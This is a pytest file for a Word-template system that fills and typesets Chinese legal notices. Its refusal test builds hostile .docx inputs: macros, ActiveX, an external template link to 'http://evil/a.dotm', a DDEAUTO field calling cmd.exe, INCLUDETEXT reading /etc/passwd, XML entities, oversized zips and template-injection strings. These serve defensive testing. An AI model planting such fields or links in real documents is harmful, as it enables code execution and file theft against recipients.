"""Word files as templates: what is refused, what is told, and what comes out of them."""

import io
import zipfile

import pytest

from kaipan.documents import testing
from kaipan.documents.press.templates import word_template
from kaipan.documents.rules.kinds import PaperKind
from kaipan.documents.rules.placeholders import values_of, vocabulary
from kaipan.documents.tests.cast import pages, paper_row, sizes, squeezed, text
from kaipan.documents.typesetting import typeset
from kaipan.documents.word import WordPackage, filled, read_template, refusals, starter
from kaipan.documents.word.numbering import spelled
from kaipan.documents.word.starter import package

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PAGE = '<w:sectPr><w:pgSz w:w="11906" w:h="16838"/></w:sectPr>'
NOTICE = PaperKind.FORMAL_NOTICE
WIDE = '<w:gridSpan w:val="2"/>'
ALL_REQUIRED = "".join("{{" + each.name + "}}" for each in vocabulary(NOTICE).singles if each.is_required)


def word(body):
    """A Word file of these paragraphs and tables."""
    return package(f"<w:document {W} {R}><w:body>{body}{PAGE}</w:body></w:document>")


def p(*runs, look=""):
    """A paragraph, a run a text."""
    return (
        "<w:p>"
        + look
        + "".join(f'<w:r><w:t xml:space="preserve">{each}</w:t></w:r>' for each in runs)
        + "</w:p>"
    )


def cell(text, properties=""):
    return f"<w:tc><w:tcPr>{properties}</w:tcPr>{p(text)}</w:tc>"


def told(content, kind=NOTICE):
    """The codes of what was found, errors first."""
    return [(each.level[0], each.code) for each in read_template(WordPackage(content), kind).findings]


def names(content, code, kind=NOTICE):
    found = read_template(WordPackage(content), kind).findings
    return [each.params for each in found if each.code == code]


def set_in_pdf(content, paper, **more):
    body = read_template(WordPackage(content), paper.kind)
    return typeset(paper_row(paper), word_template("word:1", body.layout), paper.as_printed(), **more)


@pytest.mark.parametrize("make", testing.EVERY_PAPER)
def test_the_starter_of_a_kind_is_sound_and_prints_everything_that_can_be_asked_for(make):
    paper = make()
    content = starter(paper.kind)
    body = read_template(WordPackage(content), paper.kind)
    assert body.findings == ()

    written = text(set_in_pdf(content, paper))
    values = values_of(paper.kind, paper.as_printed())
    said = [
        *values.singles.values(),
        *(each for rows in values.lists.values() for row in rows for each in row.values()),
    ]
    assert [each for each in said if squeezed(each) not in written] == []
    in_word = WordPackage(filled(WordPackage(content), paper.kind, values)).document.text()
    assert [each for each in said if each not in in_word] == []
    assert "{{" not in in_word + written


def test_the_same_template_and_words_are_the_same_bytes():
    paper = testing.contract_paper()
    content = starter(paper.kind)

    assert set_in_pdf(content, paper) == set_in_pdf(content, paper)
    values = values_of(paper.kind, paper.as_printed())
    assert filled(WordPackage(content), paper.kind, values) == filled(
        WordPackage(content), paper.kind, values
    )


def test_a_mark_lies_on_every_page_of_a_paper_set_from_word():
    marked = pages(set_in_pdf(starter(NOTICE), testing.formal_notice_paper(), mark="补打 第2次", note="赵敏"))

    assert all("补打第2次" in page and "赵敏" in page and "校验码" in page for page in marked)


@pytest.mark.parametrize(
    ("runs", "said"),
    [
        (("致{{买受人}}：",), "致王芳、李建国："),
        (("致{", "{买", "受人}", "}："), "致王芳、李建国："),
        (("{{ buyer_names }}",), "王芳、李建国"),
        (("{{逾期合计大写}}整",), "叁拾玖万贰仟伍佰零叁元整整"),
        (("{{7*7}}", "{% for %} {x} ${y} #panic()"), "{%for%}{x}${y}#panic()"),
    ],
)
def test_placeholders_are_found_however_word_cut_them_up_and_nothing_is_evaluated(runs, said):
    content, paper = word(p(*runs)), testing.formal_notice_paper()

    assert said in text(set_in_pdf(content, paper))
    values = values_of(paper.kind, paper.as_printed())
    assert said in squeezed(WordPackage(filled(WordPackage(content), paper.kind, values)).document.text())


def test_a_hostile_name_is_printed_and_written_letter_by_letter():
    name = "<w:p>&amp;{{编号}}\"'#panic()"
    paper = testing.formal_notice_paper(contact=name)
    content = word(p("{{联系人}}"))

    assert squeezed(name) in text(set_in_pdf(content, paper))
    again = WordPackage(filled(WordPackage(content), NOTICE, values_of(NOTICE, paper.as_printed())))
    assert name in again.document.text()


def test_a_row_is_repeated_for_every_line_and_left_out_when_there_is_none():
    row = "".join(
        cell(each) for each in ("{{#逾期款项明细}}{{序号}}", "{{名称}}", "{{amount}}{{/逾期款项明细}}")
    )
    content = word(f"<w:tbl><w:tr>{cell('序')}{cell('款')}{cell('金额')}</w:tr><w:tr>{row}</w:tr></w:tbl>")
    paper = testing.formal_notice_paper()

    assert "序款金额1首期317,503.002装修款75,000.00" in text(set_in_pdf(content, paper))
    none = testing.notice_to_sign_paper()
    assert text(set_in_pdf(content, none)).startswith("序款金额")
    for each in (paper, none):
        values = values_of(NOTICE, each.as_printed())
        in_word = WordPackage(filled(WordPackage(content), NOTICE, values)).document
        assert sum(node.name == "w:tr" for node in in_word.everywhere()) == 1 + len(each.overdue)


def test_merged_cells_lists_looks_and_breaks_are_set():
    restart = '<w:vMerge w:val="restart"/><w:shd w:fill="DDEEFF"/>'
    merged = (
        f"<w:tr>{cell('甲', restart)}{cell('乙')}{cell('丙')}</w:tr>"
        f"<w:tr>{cell('', '<w:vMerge/>')}{cell('丁', WIDE)}</w:tr>"
    )
    numbering = (
        f'<w:numbering {W}><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="1"/>'
        '<w:numFmt w:val="chineseCounting"/><w:lvlText w:val="第%1条"/></w:lvl></w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
    )
    item = '<w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr><w:jc w:val="both"/></w:pPr>'
    look = '<w:rPr><w:b/><w:i/><w:u w:val="single"/><w:sz w:val="40"/></w:rPr>'
    looks = f"<w:p><w:r>{look}<w:t>斜体字</w:t></w:r></w:p>"
    content = word(
        p("一", look=item) + p("二", look=item) + f"<w:tbl>{merged}</w:tbl>" + looks
        + '<w:p><w:r><w:t>前</w:t><w:br w:type="page"/><w:t>后</w:t></w:r></w:p>',
    )  # fmt: skip
    content = with_parts(content, {"word/numbering.xml": numbering})
    first, second = pages(set_in_pdf(content, testing.formal_notice_paper()))

    for words in ("第一条一", "第二条二", "甲乙丙丁", "斜体字", "前"):
        assert words in first
    assert second.startswith("后")


def test_paper_margins_header_and_page_numbers_come_from_the_file():
    section = (
        '<w:sectPr><w:headerReference w:type="default" r:id="rId9"/><w:pgSz w:w="8392" w:h="11907"/>'
        '<w:pgMar w:top="1000" w:bottom="1000" w:left="800" w:right="800"/></w:sectPr>'
    )
    header = f"<w:hdr {W}>" + p("{{出卖人}}") + (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>999</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t>之</w:t></w:r>'
        '<w:fldSimple w:instr="NUMPAGES"><w:r><w:t>888</w:t></w:r></w:fldSimple></w:p></w:hdr>'
    )  # fmt: skip
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId9" Type="{OFFICE}/header" Target="header1.xml"/></Relationships>'
    )
    content = package(f"<w:document {W} {R}><w:body>{p('文')}{section}</w:body></w:document>")
    content = with_parts(content, {"word/header1.xml": header, "word/_rels/document.xml.rels": relations})
    pdf = set_in_pdf(content, testing.formal_notice_paper())

    assert sizes(pdf) == [(148.03, 210.03)]
    assert pages(pdf)[0].startswith("深圳松风置业有限公司1之1文")


@pytest.mark.parametrize(
    ("body", "found"),
    [
        (p(ALL_REQUIRED), []),
        (p(ALL_REQUIRED, "{{买受入}}"), [("E", "unknown")]),
        (p("{{编号}}"), [("E", "required")] * 6),
        (p(ALL_REQUIRED, "{{编号}"), [("E", "unbalanced")]),
        (p(ALL_REQUIRED, "｛｛编号｝｝"), [("E", "fullwidth")]),
        (p(ALL_REQUIRED, "{{#逾期款项明细}}"), [("E", "list_outside_table")]),
        (p(ALL_REQUIRED, "{{逾期天数}}"), [("E", "column_outside")]),
        (p(ALL_REQUIRED) + f"<w:tbl><w:tr>{cell('{{#逾期款项明细}}')}</w:tr></w:tbl>", [("E", "list_open")]),
        (
            p(ALL_REQUIRED)
            + f"<w:tbl><w:tr>{cell('{{#逾期款项明细}}{{/逾期款项明细}}{{#买受人明细}}')}</w:tr></w:tbl>",
            [("E", "list_twice")],
        ),
        (p(ALL_REQUIRED) + "<w:ins>" + p("新") + "</w:ins>", [("E", "tracked")]),
        ("", [("E", "empty"), *[("E", "required")] * 7]),
        (p(ALL_REQUIRED) + "<w:p><w:r><w:drawing/></w:r></w:p>", [("W", "left_out")]),
        (p(ALL_REQUIRED, look="<w:pPr><w:sectPr/></w:pPr>"), [("W", "sections")]),
        (
            p(ALL_REQUIRED, look='<w:pPr><w:rPr><w:rFonts w:eastAsia="宋体"/></w:rPr></w:pPr>'),
            [("W", "fonts")],
        ),
    ],
)
def test_what_is_wrong_or_left_out_is_told(body, found):
    assert told(word(body)) == found


def test_an_unknown_name_is_told_with_the_nearest_ones():
    (params,) = names(word(p(ALL_REQUIRED, "{{买受入}}")), "unknown")

    assert "买受人" in params["nearest"]
    finding = read_template(WordPackage(word(p(ALL_REQUIRED, "{{买受入}}"))), NOTICE).findings[0]
    assert finding.message == f"没有占位符“买受入”。相近的有：{params['nearest']}。"


def with_parts(content, more):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {each: archive.read(each) for each in archive.namelist()}
    return zipped(parts | more)


def zipped(parts):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return file.getvalue()


def related(kind, target, mode=""):
    mode = f' TargetMode="{mode}"' if mode else ""
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
    )


SETTINGS = "word/_rels/settings.xml.rels"
FIELD = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)


REFUSED, DAMAGED = refusals.TemplateFileRefused, refusals.TemplateFileDamaged
ACTIVE, LARGE = refusals.TemplateFileActive, refusals.TemplateFileTooLarge
DOCUMENT = "word/document.xml"
ENTITIES = f'<!DOCTYPE a [<!ENTITY b "c">]><w:document {W}/>'
INCLUDE = "<w:r><w:instrText>INCLUDETEXT /etc/passwd</w:instrText></w:r>"
CUT_UP = "<w:r><w:instrText>D</w:instrText></w:r><w:r><w:instrText>DE x</w:instrText></w:r>"


def also(name, part=b"x"):
    """A sound file with one more part, or another in place of one."""
    return with_parts(starter(NOTICE), {name: part})


@pytest.mark.parametrize(
    ("content", "refusal", "words"),
    [
        (b"", REFUSED, "只接受 .docx"),
        (b"%PDF-1.7", REFUSED, "只接受 .docx"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), REFUSED, "只接受 .docx"),
        (b"PK\x03\x04" + bytes(6 * 1024 * 1024), LARGE, "5 MB"),
        (b"PK\x03\x04garbage", DAMAGED, "zip"),
        (zipped({"xl/workbook.xml": "<a/>"}), ACTIVE, "不认识的部件"),
        (also("word/vbaProject.bin"), ACTIVE, "宏"),
        (also("word/vbaData.xml", "<a/>"), ACTIVE, "宏"),
        (also("word/activeX/activeX1.xml", "<a/>"), ACTIVE, "ActiveX"),
        (also("word/embeddings/a.xlsx"), ACTIVE, "嵌入的文件"),
        (also("word/afchunk.mht"), ACTIVE, "嵌入的文件"),
        (also(SETTINGS, related("attachedTemplate", "http://evil/a.dotm", "External")), ACTIVE, "外部链接"),
        (also(SETTINGS, related("attachedTemplate", "a.dotm")), ACTIVE, "不允许的关联"),
        (also(SETTINGS, related("image", "http://evil/pixel.png")), ACTIVE, "外部链接"),
        (word("<w:p><w:r><w:object/></w:r></w:p>"), ACTIVE, "嵌入的对象"),
        (word("<w:altChunk/>"), ACTIVE, "嵌入的文件"),
        (word('<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/></w:p>'), ACTIVE, "域代码（DDEAUTO）"),
        (word(FIELD.format(CUT_UP)), ACTIVE, "域代码（DDE）"),
        (word(FIELD.format(INCLUDE)), ACTIVE, "INCLUDETEXT"),
        (also(DOCUMENT, ENTITIES), refusals.TemplateFileWithEntities, "XML"),
        (also(DOCUMENT, "<w:document"), DAMAGED, "document"),
        (also(DOCUMENT, '<w:document xmlns:w="urn:other"/>'), DAMAGED, "document"),
        (word("<w:sdt>" * 70 + "</w:sdt>" * 70), DAMAGED, "document"),
        (also("word/media/a.png", bytes(29 * 1024 * 1024)), LARGE, "压缩比异常"),
    ],
)
def test_a_hostile_file_is_refused_and_says_what_it_carries(content, refusal, words):
    with pytest.raises(refusals.TemplateFileRefused) as refused:
        WordPackage(content)

    assert isinstance(refused.value, refusal)
    assert words in str(refused.value)


def test_a_file_that_says_it_has_macros_is_refused():
    with zipfile.ZipFile(io.BytesIO(starter(NOTICE))) as archive:
        types = archive.read("[Content_Types].xml").decode()
    said = types.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )

    with pytest.raises(refusals.TemplateFileActive, match="宏"):
        WordPackage(with_parts(starter(NOTICE), {"[Content_Types].xml": said}))


@pytest.mark.parametrize(
    ("count", "how", "written"),
    [
        (3, "decimal", "3"),
        (12, "chineseCounting", "十二"),
        (20, "chineseCountingThousand", "二十"),
        (45, "chineseCounting", "四十五"),
        (14, "lowerRoman", "xiv"),
        (2, "upperLetter", "B"),
        (5, "decimalEnclosedCircle", "⑤"),
        (7, None, "7"),
    ],
)
def test_numbers_of_lists_are_spelled_as_word_spells_them(count, how, written):
    assert spelled(count, how) == written


def test_every_kind_names_everything_it_knows_once():
    for kind in PaperKind:
        known = vocabulary(kind)
        for placeholders in (known.singles, *(each.columns for each in known.lists)):
            spoken = [each.name for each in placeholders] + [each.code for each in placeholders]
            assert len(spoken) == len(set(spoken)), kind
        assert any(each.is_required for each in known.singles)
